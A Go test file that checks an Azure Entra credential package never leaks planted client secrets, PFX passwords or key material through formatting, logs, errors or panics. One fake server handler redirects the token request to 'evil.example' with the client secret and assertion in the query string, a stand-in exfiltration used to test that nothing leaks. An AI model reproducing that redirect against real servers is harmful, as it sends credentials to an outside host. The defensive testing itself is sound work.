package entra

import (
	"bytes"
	"context"
	"encoding/base64"
	"encoding/json"
	"encoding/pem"
	"errors"
	"fmt"
	"log/slog"
	"net/http"
	"os"
	"os/exec"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/Azure/azure-sdk-for-go/sdk/azcore/log"
	jsonv2 "github.com/go-json-experiment/json"
	"software.sslmate.com/src/go-pkcs12"
)

const (
	plantedSecret   = "planted8Q~client.secret-value_123456789"
	plantedPassword = "planted-pfx-password"
	panicEnv        = "ENTRA_TEST_PANIC"
)

// leaks returns the planted values found in text. Of keys and tokens a piece
// suffices.
func leaks(text string, planted map[string]string) []string {
	var found []string
	for name, value := range planted {
		if value != "" && strings.Contains(text, value) {
			found = append(found, name)
		}
	}
	return found
}

// plantedPieces are the values in the forms in which they could show.
func plantedPieces(file Secret, assertion string) map[string]string {
	block, _ := pem.Decode([]byte(pkcs8(rsaKey())))
	d := rsaKey().D.Text(10)
	return map[string]string{
		"secret": plantedSecret, "secret as base64": base64.StdEncoding.EncodeToString([]byte(plantedSecret)),
		"secret as numbers": numbers(plantedSecret[:8]),
		"secret as hex":     fmt.Sprintf("%x", plantedSecret[:12]),
		"password":          plantedPassword, "password as hex": fmt.Sprintf("%x", plantedPassword),
		"key as base64": base64.StdEncoding.EncodeToString(block.Bytes)[60:120],
		"key exponent":  d[:40], "file as numbers": numbers(file.Reveal()[100:120]),
		"assertion": assertion,
	}
}

// numbers is how fmt prints the bytes of s with %v.
func numbers(s string) string {
	var b strings.Builder
	for i := range len(s) {
		fmt.Fprintf(&b, " %d", s[i])
	}
	return b.String()[1:]
}

// inEveryFormat prints v in each way that a program may print it.
func inEveryFormat(v any) string {
	var b bytes.Buffer
	type wrapper struct {
		V any
		v any // fmt prints it without calling methods
	}
	for _, verb := range []string{"%v", "%+v", "%#v", "%s", "%q", "%x", "%X", "%d", "%T"} {
		fmt.Fprintf(&b, verb+"\n", v)
		fmt.Fprintf(&b, verb+"\n", wrapper{v, v})
		fmt.Fprintf(&b, verb+"\n", []any{v})
		fmt.Fprintf(&b, verb+"\n", map[string]any{"v": v})
	}
	for _, marshal := range []func(any) ([]byte, error){json.Marshal, func(v any) ([]byte, error) { return jsonv2.Marshal(v) }} {
		out, err := marshal(v)
		fmt.Fprintf(&b, "%s %v\n", out, err)
	}
	level := &slog.HandlerOptions{Level: slog.LevelDebug, AddSource: true}
	for _, h := range []slog.Handler{slog.NewTextHandler(&b, level), slog.NewJSONHandler(&b, level)} {
		slog.New(h).With("v", v).Debug("message", "v", v, slog.Group("g", "v", v), "wrapped", wrapper{v, v})
	}
	if err, ok := v.(error); ok {
		fmt.Fprintln(&b, err.Error(), fmt.Errorf("wrapped: %w", err), errors.Join(err, err), inChain(errors.Unwrap(err)))
	}
	return b.String()
}

func inChain(err error) string {
	if err == nil {
		return ""
	}
	return fmt.Sprintf("%v %+v %#v %s", err, err, err, inChain(errors.Unwrap(err)))
}

// unexported holds package types in fields that fmt reads without methods.
type unexported struct {
	secret  Secret
	options CredentialOptions
	cred    Credential
	cert    Certificate
}

func everyValue(file Secret) []any {
	o := CredentialOptions{TenantID: testTenant, ClientID: testClient, Secret: NewSecret(plantedSecret), CertificatePassword: NewSecret(plantedPassword)}
	c := must(NewCredential(CredentialOptions{TenantID: testTenant, ClientID: testClient, Secret: NewSecret(plantedSecret)}))
	withFile := must(NewCredential(CredentialOptions{
		TenantID: testTenant, ClientID: testClient, Certificate: file, CertificatePassword: NewSecret(plantedPassword), Now: func() time.Time { return testNow },
	}))
	cert := must(ParseCertificate(file, NewSecret(plantedPassword)))
	secret := NewSecret(plantedSecret)
	o.Certificate = file
	return []any{secret, &secret, o, &o, c, withFile, cert, *cert, unexported{secret, o, *withFile, *cert}, &unexported{secret, o, *c, *cert}, Secret{}}
}

func TestNothingLeaksFromValues(t *testing.T) {
	t.Parallel()
	file := plantedFile()
	planted := plantedPieces(file, "")
	for _, v := range everyValue(file) {
		if found := leaks(inEveryFormat(v), planted); len(found) > 0 {
			t.Errorf("%T leaks %v", v, found)
		}
	}
	// The assertion itself must be able to fail.
	if len(leaks(inEveryFormat(plantedSecret), planted)) == 0 {
		t.Error("the planted secret is not found where it is")
	}
}

// TestNothingLeaksFromErrors makes every failure that follows a request, with a
// server that repeats all it was sent, and with azcore's log at its loudest.
func TestNothingLeaksFromErrors(t *testing.T) {
	var mu sync.Mutex
	var logged strings.Builder
	log.SetListener(func(_ log.Event, text string) {
		mu.Lock()
		defer mu.Unlock()
		logged.WriteString(text)
	})
	defer log.SetListener(nil)

	echo := func(status int, contentType, body string) http.HandlerFunc {
		return func(w http.ResponseWriter, r *http.Request) {
			_ = r.ParseForm()
			sent := r.PostForm.Get("client_secret") + " " + r.PostForm.Get("client_assertion") + " " + r.PostForm.Encode()
			text, _ := json.Marshal(sent)
			w.Header().Set("Content-Type", contentType)
			w.Header().Set("X-Echo", r.PostForm.Get("client_secret"))
			w.WriteHeader(status)
			_, _ = w.Write([]byte(strings.ReplaceAll(body, "SENT", strings.Trim(string(text), `"`))))
		}
	}
	answers := map[string]http.HandlerFunc{
		"refusal":       echo(401, "application/json", `{"error":"SENT","error_description":"AADSTS7000215: SENT","error_codes":[7000215],"trace_id":"SENT","correlation_id":"SENT","timestamp":"SENT"}`),
		"a page":        echo(400, "text/html", `<html>SENT</html>`),
		"cut-off token": echo(200, "application/json", `{"access_token":"SENT`),
		"odd token":     echo(200, "application/json", `{"access_token":{"a":"SENT"},"expires_in":"SENT"}`),
		"no token":      echo(200, "application/json", `{"x":"SENT"}`),
		"redirect": func(w http.ResponseWriter, r *http.Request) {
			_ = r.ParseForm()
			http.Redirect(w, r, "https://evil.example/?s="+r.PostForm.Get("client_secret")+r.PostForm.Get("client_assertion"), http.StatusTemporaryRedirect)
		},
	}
	file := plantedFile()
	for name, answer := range answers {
		f := newFakeEntra(t)
		f.token = answer
		for _, kind := range []CredentialKind{KindClientSecret, KindCertificate} {
			o := options(f)
			o.Secret = NewSecret(plantedSecret)
			if kind == KindCertificate {
				o.Secret, o.Certificate, o.CertificatePassword = Secret{}, file, NewSecret(plantedPassword)
			}
			_, err := newTestCredential(t, o).Token(context.Background(), "https://graph.microsoft.com")
			if err == nil {
				t.Errorf("%s %s: no error", name, kind)
				continue
			}
			_, form := f.seen()
			planted := plantedPieces(file, form.Get("client_assertion"))
			if found := leaks(inEveryFormat(err), planted); len(found) > 0 {
				t.Errorf("%s %s: the error leaks %v: %v", name, kind, found, err)
			}
			mu.Lock()
			if found := leaks(logged.String(), planted); len(found) > 0 {
				t.Errorf("%s %s: the log leaks %v", name, kind, found)
			}
			mu.Unlock()
		}
	}
	if logged.Len() == 0 {
		t.Error("nothing was logged, so nothing was proved")
	}
}

// TestNothingLeaksFromPanics runs this test binary anew and lets it panic with
// each value.
func TestNothingLeaksFromPanics(t *testing.T) {
	t.Parallel()
	for i := range everyValue(plantedFile()) {
		cmd := exec.Command(os.Args[0], "-test.run=^$")
		cmd.Env = append(os.Environ(), fmt.Sprintf("%s=%d", panicEnv, i))
		out, err := cmd.CombinedOutput()
		if err == nil || !bytes.Contains(out, []byte("panic:")) {
			t.Fatalf("no panic: %v\n%s", err, out)
		}
		// The key differs from run to run: the secrets alone are searched.
		for _, value := range []string{plantedSecret, plantedPassword, "PRIVATE KEY"} {
			if bytes.Contains(out, []byte(value)) {
				t.Errorf("value %d: the panic leaks: %s", i, out)
			}
		}
	}
}

func panicWithEverything() {
	var i int
	_, _ = fmt.Sscan(os.Getenv(panicEnv), &i)
	panic(everyValue(plantedFile())[i])
}

func TestSecret(t *testing.T) {
	t.Parallel()
	s := NewSecret("value")
	if s.Reveal() != "value" || s.IsZero() || !(Secret{}).IsZero() || !NewSecret("").IsZero() || (Secret{}).Reveal() != "" {
		t.Error("value")
	}
	if s.String() != "[redacted]" || s.GoString() != "[redacted]" {
		t.Error("format")
	}
	for in, want := range map[string]bool{
		testClient: true, " " + strings.ToUpper(testClient) + "\n": true, "": false, plantedSecret: false,
		strings.ReplaceAll(testClient, "-", ""): false, strings.Replace(testClient, "a", "g", 1): false,
	} {
		if LooksLikeSecretID(NewSecret(in)) != want {
			t.Errorf("%q", in)
		}
	}
}

// plantedFile is a PFX file in which the key is held by the planted password.
var plantedFile = sync.OnceValue(func() Secret {
	return NewSecret(string(must(pkcs12.Modern.Encode(rsaKey(), rsaCertificate(), nil, plantedPassword))))
})
